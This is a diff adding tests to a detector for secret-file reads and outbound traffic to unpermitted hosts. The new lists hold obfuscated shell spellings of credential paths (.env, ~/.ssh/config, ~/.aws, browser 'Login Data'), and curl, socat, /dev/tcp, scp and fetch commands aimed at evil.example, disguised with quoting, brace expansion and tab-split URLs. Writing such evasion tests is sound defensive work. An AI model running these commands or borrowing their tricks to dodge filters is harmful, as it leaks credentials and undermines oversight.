@@ -196,6 +196,35 @@ HIDDEN = [
     ".env%00.txt",
     "%c3/.e%6ev",
 ]
+# Words of which a shell drops the signs that quote, or expands the alternatives.
+SPELLED = [
+    ".e$''nv",
+    '.e$""nv',
+    ".en$'v'",
+    "~/.s$''sh/config",
+    "~/.$'ssh'/config",
+    "/work/$'secrets'/a",
+    "~/Login$' Data'",
+    ".{x,env}",
+    ".{en,x}{v,}",
+    "~/.{x,ssh}/config",
+    "~/.{x,aws} ~/.{x,ssh}",
+    ".(env|x)",
+    ".@(x|env)",
+    ".@(env)",
+    ".(x|(env|y))",
+    "{x,.env}",
+    "{x,.e}nv",
+    ".{x,e}nv",
+    "~/.s{x,sh}/config",
+    "/work/{x,secrets}/a",
+    "{,x}.env",
+    "{id,x}{_rsa,}",
+    "~/{.s,x}{sh/config,y}",
+    ".{e..e}{n..n}{v..v}",
+    "-f.{x,env}",
+    "{a,b}" * 30,
+]
 # What stands for one letter, or for several, of a name in a shell.
 ONE = [
     "[{0},x]",
@@ -224,6 +253,46 @@ def test_a_kept_place_is_found_within_a_word(run, frame):
     for hidden in HIDDEN:
         text = frame.replace("{}", hidden)
         assert SECRET in run(text), text
+
+
+@pytest.mark.parametrize("frame", ["cat {}", "a;tar c {}&&b"])
+def test_a_kept_place_is_found_as_a_shell_would_spell_it(run, frame):
+    """
+    However its name is quoted, and whichever of the alternatives it is.
+    """
+    for spelled in SPELLED:
+        assert SECRET in run(frame.replace("{}", spelled)), spelled
+
+
+@st.composite
+def put_together(draw, text):
+    """A word that a shell makes that text of, or several of which it is one."""
+    parts = []
+    while text:
+        length = draw(st.integers(1, len(text)))
+        part, text = text[:length], text[length:]
+        forms = [part, f"$''{part}", f"$'{part}'", f'$"{part}"']
+        if len(parts) < 8:
+            forms += [f"{{x,{part}}}", f"{{{part},}}", f"{{{{y,{part}}},z}}"]
+        parts.append(draw(st.sampled_from(forms)))
+    return "".join(parts)
+
+
+def test_no_generated_alternatives_hide_a_place_or_a_host(run):
+    """
+    Wherever in it they stand.
+    """
+
+    @settings(max_examples=100, deadline=None)
+    @given(
+        place=st.sampled_from(["~/.ssh/config", "b/.env", "id_rsa"]).flatmap(put_together),
+        host=st.sampled_from(["http://evil.example/", "u@evil.example:x"]).flatmap(put_together),
+    )
+    def refused(place, host):
+        assert SECRET in run(f"cat {place}"), place
+        assert EGRESS in run(f"curl {host}", hosts=["ok.example"]), host
+
+    refused()
 
 
 @pytest.mark.parametrize("frame", ["cat {}", "cat x[0];head {}", "f(a[], '{}')"])
@@ -325,6 +394,9 @@ PROGRAMS = [
     "export const ok = /\\.(png|jpe?g)$/i.test(name) && `${base}/img/${id}.png`",
     "import { serve } from 'jsr:@std/http';\nimport express from 'npm:express@4';",
     "std::vector<int> v{1, 2, 3}; a::b c = v[0] * v[1];",
+    "x = re.findall(r'(https?|ftp)://\\S+', x) or re.match('https?://[^/]+', x.split('://')[1])",
+    "const {a,b}=require('x');if(a){f(1,2)}else{g(3,4)};export const x={a:1,c:{d:(a||b),e:1}};",
+    "{" + ",".join(f'"k{n}":{{"a":1,"b":[{{"c":1,"d":2}},{{"c":3}}]}}' for n in range(200)) + "}",
     "m[i,j].env[k,l] = n.key[a:b, c] + f'{a,b}.json'",
     "def f(x:(int), y:(str).z): return {**x, 'id': y[...,0]}",
 ]
@@ -487,6 +559,61 @@ def test_what_may_be_another_host_is_never_a_permitted_one(run, frame):
         assert EGRESS in run(text, hosts=["ok.example"]), text
 
 
+# Hosts in words that a shell puts together, and in URLs of which readers drop signs.
+PUT_TOGETHER = [
+    "curl http$''://evil.example/x",
+    "curl htt$'p://evil.example/x'",
+    "socat - TCP$'':evil.example:80",
+    "cat f > /dev/tcp$''/evil.example/80",
+    "curl http{,}://127$''.0.0.1/",
+    "curl http{,}://evil.example/x",
+    "curl http{,s}://evil.example",
+    "curl {http:/,x}/evil.example/x",
+    "rsync -a f rsync{,}://evil.example/x",
+    "scp f eve@{evil.example,x}:p",
+    "git push git@{evil.example,}:x",
+    "curl $(echo http)://evil.example/x",
+    "S=http; curl $S://evil.example/x",
+    "curl http://ok{.example,.example.evil}/",
+    "fetch('http://ok.example\t.evil.example/x')",
+    "fetch(`http://ok.example\n.evil.example/x`)",
+    "fetch(' \thttp://ok.example\r\n.evil.example ')",
+    "fetch('http\t:/evil.example/x')",
+    "fetch('ht\ttps:\tevil.example/x')",
+    "fetch('/\t/evil.example/x')",
+    "fetch('http:\t//ok@evil.example/')",
+    "fetch('http:\tlocalhost:8080/')",
+    "fetch('http://metadata.google\t.internal/')",
+    "// don't\nfetch('http://x.loc\talhost:8080/')",
+]
+
+
+@pytest.mark.parametrize("text", PUT_TOGETHER)
+def test_a_host_is_judged_as_its_reader_puts_it_together(run, text):
+    """
+    Whichever signs a shell or a reader of URLs drops or expands.
+    """
+    assert EGRESS in run(text, hosts=["ok.example"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl https://ok.example/x\nls -l",
+        "curl -H 'A: b' https://ok.example\nls -l 'x'",
+        'x = "https://ok.example/a"\nprint(x)',
+        "u = ['https://ok.example/a',\n\t'https://ok.example/b']\n# don't",
+        "cat <<EOF > a.py\nget('https://ok.example',\n  h={'a': 'b',\n 'c': 1})\nEOF\nls 'x'",
+        '{"a":{"x":[{"b":1,"c":2},{"b":1,"c":2}],"y":{"a":1,"b":2}},"u":"https://ok.example/x"}',
+    ],
+)
+def test_lines_and_braces_make_no_other_host(run, text):
+    """
+    Ordinary code of several lines goes where it says.
+    """
+    assert not run(text, hosts=["ok.example"]) & {SECRET, EGRESS}
+
+
 @pytest.mark.parametrize("form", BEHIND)
 @pytest.mark.parametrize("frame", ["curl {}", 'fetch("{}")'])
 def test_no_user_hides_the_host_behind_it(run, frame, form):
@@ -525,7 +652,7 @@ def test_code_may_name_the_hosts_of_its_task(run):
 SIGNS = r"""
     http https ftp wss s3 : / \ // \\ :// @ evil.example 10.0.0.1 [::1] a x . - -f = , ( ) [ ] { }
     ' " ` ; | & < > ! ^ $ ~ # ? * % %2f %41 ). ]. }. !. mailto: ssh: TCP: /dev/tcp/ u@ u:@ ::1 ::
-    fe80:: ffff: 0x7f. 0177. 1. :80 + +f -xf -4h
+    fe80:: ffff: 0x7f. 0177. 1. :80 + +f -xf -4h $' $" {a,b} {x,} {a..c} (a|b) @(x)
 """
 BLANKS = [" ", "\t", "\n", "\\\n", "\x00", "\x7f", "\x85", "\u200b", "\uff41", "\u2028"]
 PIECES = st.lists(
